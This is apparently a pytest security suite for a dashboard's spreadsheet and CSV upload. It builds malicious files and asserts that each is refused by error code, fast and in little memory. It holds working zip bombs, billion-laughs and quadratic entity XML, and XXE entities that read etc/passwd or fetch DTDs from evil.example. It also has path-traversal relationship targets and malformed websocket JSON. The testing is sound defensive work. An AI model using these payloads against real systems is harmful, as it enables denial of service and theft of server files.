"""Files made to hurt, handed over as the page does it: refused by name, with little work and in little memory."""

from __future__ import annotations

import base64
import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from string import ascii_lowercase, digits

import pytest

from dashboard.files.uploads.reading import MAX_BYTES
from dashboard.ops import errors
from tests.dashboard.own_files import GOOD, HEADER, SHEET_XML, csv, repacked, row
from tests.hosting.running import LOCAL, Client, Running
from tests.security import line, websocket_messages
from tests.security.conftest import Names
from tests.security.helpers import WAY, give, hand, heard_of_the_machine
from tests.security.line import forget_most, memory_mb
from tests.security.payloads import PAYLOADS

# Of work, whatever else the machine does meanwhile.
SECONDS, MEGABYTES = 2.0, 60.0
MADE_UP = random.Random(7)


def planted(member: str, body: bytes, says: int, whole: bytes = GOOD) -> bytes:
    """A workbook with a part of packed bytes, of which the directory says that it unpacks to so many."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as new:
        for name, content in members(whole):
            if name != member:
                new.writestr(name, content)
        new.writestr(member, body)
        info = new.filelist[-1]
        info.compress_type, info.file_size, info.CRC = zipfile.ZIP_DEFLATED, says, 0
    return made.getvalue()


def repeated(letter: bytes, megabytes: int) -> bytes:
    """So much of one letter, packed: ten megabytes at a time, so that it is made in no time."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    ten = squeezer.compress(letter * 10_000_000) + squeezer.flush(zlib.Z_FULL_FLUSH)
    return ten * (megabytes // 10) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def gigabyte() -> bytes:
    """A workbook of one megabyte that unpacks to one gigabyte."""
    return planted("xl/media/made-up.bmp", repeated(b"\0", 1_000), 1_000_000_000)


def lying(says: int) -> bytes:
    """A sheet that unpacks to a hundred megabytes, of which the directory says that it is small."""
    return planted(SHEET_XML, repeated(b" ", 100), says)


def overlapping() -> bytes:
    """A directory with a hundred names for the same packed megabytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for info, content in members(GOOD):
            new.writestr(info, content)
        new.writestr("xl/media/made-up.bmp", bytes(10_000_000))
        first = new.filelist[-1]
        for number in range(100):
            again = zipfile.ZipInfo(f"xl/media/{number}.bmp")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(again, name, getattr(first, name))
            new.filelist.append(again)
            new.NameToInfo[again.filename] = again
    return made.getvalue()


def members(whole: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def sheet(inside: str, before: str = "") -> bytes:
    """A workbook whose sheet holds this instead of its rows."""
    start = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return repacked(GOOD, SHEET_XML, f"{before}{start}{inside}</sheetData></worksheet>")


def noise(characters: int) -> str:
    """Letters that cannot be packed much."""
    return base64.b85encode(MADE_UP.randbytes(characters * 4 // 5)).decode("ascii").replace("<", "l").replace("&", "n")


def inline(text: str) -> str:
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'


def related(target: str) -> bytes:
    """A workbook whose sheet is said to be elsewhere."""
    relations = f'<Relationships><Relationship Id="rId1" Target="{target}"/></Relationships>'
    return repacked(GOOD, "xl/_rels/workbook.xml.rels", relations)


def styles(code: str) -> bytes:
    """A workbook with a format of its own for numbers."""
    styled = (
        f'<styleSheet><numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
        '<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    )
    return repacked(GOOD, "xl/styles.xml", styled)


def entities(declared: str, used: str = "&a;") -> bytes:
    return sheet(inline(used), f"<!DOCTYPE x [{declared}]>")


def laughs(times: int, rule: str) -> str:
    return '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * times}">' for n in range(1, 10)) + rule


def packed_many(parts: int) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as new:
        for name, content in [*members(GOOD), *((f"xl/media/{n}.txt", b"x") for n in range(parts))]:
            new.writestr(name, content)
    return made.getvalue()


def zipped_again(content: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as new:
        new.writestr("book.xlsx", content)
    return made.getvalue()


def one_cell() -> bytes:
    start, end = (
        b'<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>',
        b"</t></is></c></row></sheetData></worksheet>",
    )
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = squeezer.compress(start) + squeezer.flush(zlib.Z_FULL_FLUSH) + repeated(b"L", 100)
    return planted(SHEET_XML, body, 100_000_000 + len(start) + len(end))


def many_sheets(count: int, first: str) -> bytes:
    sheets = "".join(f'<sheet name="{noise(10)}" r:id="rId1"/>' for _ in range(count))
    book = f'<workbook xmlns:r="r"><sheets><sheet name="{first}" r:id="rId1"/>{sheets}</sheets></workbook>'
    return repacked(GOOD, "xl/workbook.xml", book)


def letters(count: int, of: str = ascii_lowercase) -> list[str]:
    """So many letters in no order."""
    return MADE_UP.choices(of, k=count)


# What it is, the rules by one of which it is refused, and how it is made.
BOMBS: list[tuple[str, tuple[str, ...], Callable[[], bytes]]] = [
    ("one megabyte that unpacks to one gigabyte", ("E_ZIP_SIZE",), gigabyte),
    ("a hundred megabytes that are said to be four thousand bytes", ("E_SPREADSHEET",), lambda: lying(4_000)),
    ("a hundred megabytes that are said to be ten", ("E_SPREADSHEET",), lambda: lying(10_000_000)),
    ("a hundred names for the same bytes", ("E_ZIP_SIZE",), overlapping),
    ("a thousand parts", ("E_ZIP_SIZE",), lambda: packed_many(1_000)),
    ("a zip file in a zip file", ("E_MAGIC",), lambda: zipped_again(GOOD)),
    ("one cell of a hundred megabytes", ("E_ZIP_SIZE",), one_cell),
    ("one cell of most of a megabyte", ("E_FIELD_SIZE", "E_NOT_TEMPLATE"), lambda: sheet(inline(noise(900_000)))),
    ("three hundred thousand columns", ("E_TOO_LARGE",), lambda: sheet(
        f'<row r="1">{"".join(f"<c><v>{one}</v></c>" for one in letters(300_000, digits))}</row>')),
    ("more tags than a table needs", ("E_TOO_LARGE",), lambda: sheet("".join(f"<{one}/>" for one in letters(400_000)))),
    ("tags a hundred thousand deep", ("E_SPREADSHEET",), lambda: sheet(
        "".join(f"<{one}>" for one in letters(100_000)))),
    ("forty thousand sheets", ("E_SHEET",), lambda: many_sheets(40_000, "Other")),
    ("rows and columns beyond any sheet", ("E_TOO_LARGE",), lambda: sheet(
        "".join(f'<row r="{n * 9_999_999}"><c r="ZZZ{n}"><v>1</v></c></row>' for n in range(1, 400)))),
    ("a number of a hundred thousand digits", ("E_NOT_TEMPLATE",), lambda: sheet(
        f'<row r="1"><c r="A1"><v>{"".join(letters(100_000, "123456789"))}</v></c></row>')),
    ("a row number of a hundred thousand digits", ("E_SPREADSHEET",), lambda: sheet(
        f'<row r="{"".join(letters(100_000, "123456789"))}"/>')),
    ("a format of brackets that never close", ("E_SPREADSHEET",), lambda: styles(
        "".join(f"[{one}" for one in letters(400_000)))),
    ("a format of quotation marks that never close", ("E_SPREADSHEET",), lambda: styles(
        "".join(f"\\&quot;{one}" for one in letters(200_000)))),
    ("a billion laughs", ("E_ENTITIES",), lambda: entities(laughs(10, '<!ENTITY a "&a9;">'))),
    ("a quadratic laugh", ("E_ENTITIES",), lambda: entities(f'<!ENTITY a "{"ha" * 5_000}">', "&a;" * 5_000)),
    ("a file of this machine as an entity", ("E_ENTITIES",), lambda: entities(
        f'<!ENTITY a SYSTEM "{LOCAL}etc/passwd">')),
    ("an address elsewhere as an entity", ("E_ENTITIES",), lambda: entities(
        '<!ENTITY a SYSTEM "https://evil.example/x">')),
    ("an entity that is a parameter", ("E_ENTITIES",), lambda: entities(
        '<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;', "1")),
    ("a document type from elsewhere", ("E_ENTITIES",), lambda: sheet(
        "", '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">')),
    ("entities in the texts of the workbook", ("E_ENTITIES",), lambda: repacked(
        GOOD, "xl/sharedStrings.xml", f"<!DOCTYPE x [{laughs(10, '')}]><sst><si><t>&a9;</t></si></sst>")),
    ("entities in the list of sheets", ("E_ENTITIES",), lambda: repacked(
        GOOD, "xl/workbook.xml", f"<!DOCTYPE x [{laughs(10, '')}]><workbook/>")),
    ("a sheet that is kept elsewhere", ("E_SPREADSHEET",), lambda: related("https://evil.example/x.xml")),
    ("a sheet above the workbook", ("E_SPREADSHEET",), lambda: related("../../../../../../etc/passwd")),
    ("half a million columns of text", ("E_TOO_MANY_COLUMNS",), lambda: b"1," * 499_000 + b"1\n"),
    ("a cell of a megabyte", ("E_FIELD_SIZE",), lambda: csv(row(14.2, area="L" * 990_000))),
    ("a quotation mark that is never closed", ("E_FIELD_SIZE", "E_QUOTES"), lambda: csv() + b'"' + b"\n," * 490_000),
    ("forty thousand rows", ("E_TOO_MANY_ROWS",), lambda: csv() + b"1,2,3,4,5,6,7,8,9,10,11\r\n" * 39_000),
    ("a first row of nothing but commas", ("E_EMPTY",), lambda: b"," * 999_000 + b"\n"),
    ("rows that all have too many cells", ("E_TOO_MANY_ROWS",), lambda: csv() + b",,,,,,,,,,,,,1\r\n" * 60_000),
    ("half a million blank rows", ("E_NO_VALUES",), lambda: csv() + b"\r\n" * 490_000),
    ("names that are nearly those of measures", ("E_TOO_MANY_ERRORS",), lambda: csv(
        *[row(14.2, number="383", metric=f"{'vacancy_rat' * 9}{n}", title=f"{'Social worker vacancy rat ' * 9}{n}")
          for n in range(490)])),
    ("figures that are nearly dates and thousands", ("E_TOO_MANY_ERRORS",), lambda: csv(
        *[row("1 234" * 190 + "x" if n % 2 else "1" * 500 + "-" * 400) for n in range(490)])),
]  # fmt: skip


@pytest.fixture(scope="module")
def officer(server: Running, names: Names) -> Iterator[Client]:
    """A reader with the field for files before them."""
    with Client(server) as reader:
        reader.run("own", la=names.leeds, way=WAY)
        yield reader


@pytest.mark.parametrize(("about", "rules", "make"), BOMBS, ids=[about for about, *_ in BOMBS])
def test_a_bomb_is_refused_by_name_at_once(
    officer: Client, names: Names, about: str, rules: tuple[str, ...], make: Callable[[], bytes]
) -> None:
    content = make()
    forget_most(officer.running)
    before = memory_mb(officer.running)
    worked = line.worked(officer.running)
    said = "".join(give(officer, names, content))
    assert line.worked(officer.running) - worked < SECONDS
    assert memory_mb(officer.running, most=True) - before < MEGABYTES
    assert any(f"<code>{rule}</code>" in said for rule in rules), (about, len(content), said[-2000:])
    assert "root:x" not in said
    assert len(said) < 200_000


def test_a_file_of_more_than_may_be_given_is_refused_unread(officer: Client, names: Names) -> None:
    assert "<code>E_TOO_LARGE</code>" in "".join(give(officer, names, bytes(MAX_BYTES + 1)))


def test_of_many_other_sheets_some_are_named(officer: Client, names: Names) -> None:
    said = "".join(give(officer, names, many_sheets(20_000, "Figures")))
    assert "<code>W_OTHER_SHEETS</code>" in said
    assert len(said) < 50_000


@pytest.mark.drill
def test_memory_does_not_grow_with_each(officer: Client, names: Names) -> None:
    content = gigabyte()
    for _ in range(10):
        give(officer, names, content)
    before = memory_mb(officer.running)
    for _ in range(60):
        give(officer, names, content)
    # Kept, they would be eighty.
    assert memory_mb(officer.running) - before < 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_file_holds_is_said_back_as_text(officer: Client, names: Names, payload: str) -> None:
    quoted = payload.replace('"', '""')
    content = csv() + f'383,"{quoted}","{quoted}","{quoted}",%,x,y,z,"{quoted}","{quoted}","{quoted}"\r\n'.encode()
    for given, name in (
        (content, payload),
        (csv(header=[*HEADER[:-1], quoted]), f"{payload}.csv"),
        (quoted.encode(), "x.csv"),
    ):
        bodies = give(officer, names, given, name)
        assert [found for body in bodies for found in websocket_messages.wrong(body)] == []
        assert [
            words for words in websocket_messages.markdown(officer.messages) if websocket_messages.LINKS.search(words)
        ] == []
        assert websocket_messages.failures(officer.messages, "".join(bodies)) == []


@pytest.mark.parametrize(
    "handed",
    ["[]", "null", "{}", "[1]", '["x"]', '[{"event": "file"}]', '[{"event": "file", "value": 1}]', "not json", "[[[[[[",
     '[{"event": "file", "value": {"name": 1, "content": 2}}]',
     '[{"event": "file", "value": {"name": "x", "content": "\u2603"}}]',
     '[{"event": "other", "value": {"name": "x", "content": "eA=="}}]', "[" * 50_000,
     '[{"event": "__class__", "value": {}}]'],
    ids=lambda one: str(one)[:30],
)  # fmt: skip
def test_what_is_no_file_at_all_does_nothing(server: Running, names: Names, handed: str) -> None:
    with Client(server) as reader:
        reader.run("own", la=names.leeds, way=WAY)
        said = hand(reader, names, handed)
        # What has no end is too deep to be read: that is said, and nothing more.
        assert websocket_messages.failures(reader.messages, said) == ([errors.SORRY] if len(handed) > 10_000 else [])
        assert heard_of_the_machine(reader.heard) == []
        # The page goes on.
        assert "own figures" in reader.run("own", la=names.leeds)


@pytest.mark.parametrize("method", ["PUT", "POST", "DELETE", "GET", "OPTIONS", "PATCH"])
def test_streamlits_own_address_for_files_is_closed(server: Running, names: Names, method: str) -> None:
    with Client(server) as reader:
        reader.run("own", la=names.leeds, way=WAY)
        for path in (f"/_stcore/upload_file/{reader.session}/x", "/_stcore/upload_file/x/y", "/_stcore/upload_file"):
            got = server.ask(path, method, content_length="0")
            assert got.status == 404
            assert "access-control-allow-origin" not in got.headers


def test_every_bomb_would_be_one_of_a_file_that_may_be_given() -> None:
    """What is too large as it is would be refused for that alone."""
    assert {about: len(content) for about, _, make in BOMBS if len(content := make()) > MAX_BYTES} == {}
